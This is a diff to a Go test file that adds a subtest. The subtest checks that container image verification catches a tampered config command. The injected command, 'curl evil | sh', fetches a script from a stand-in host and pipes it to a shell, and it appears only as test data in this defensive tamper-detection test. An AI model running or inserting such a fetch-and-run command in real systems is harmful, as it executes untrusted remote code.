@@ -99,6 +99,21 @@ func TestVerifyImageFindsDifferences(t *testing.T) {
 		require.Contains(t, mm.Problem, "another manifest")
 	})
 
+	t.Run("config", func(t *testing.T) {
+		img, err := Build(ctx, h.manifest, h.bytes, BuildOptions{Root: h.root, TempDir: t.TempDir()})
+		require.NoError(t, err)
+		defer img.Close()
+		cf, err := img.Image.ConfigFile()
+		require.NoError(t, err)
+		c := cf.Config
+		c.Cmd = []string{"/bin/sh", "-c", "curl evil | sh"}
+		bad, err := mutate.Config(img.Image, c)
+		require.NoError(t, err)
+		var mm *ImageMismatchError
+		require.ErrorAs(t, VerifyImage(ctx, bad, h.manifest, h.bytes), &mm)
+		require.Equal(t, "config Cmd differs", mm.Problem)
+	})
+
 	t.Run("owner", func(t *testing.T) {
 		img, err := Build(ctx, h.manifest, h.bytes, BuildOptions{Root: h.root, TempDir: t.TempDir()})
 		require.NoError(t, err)
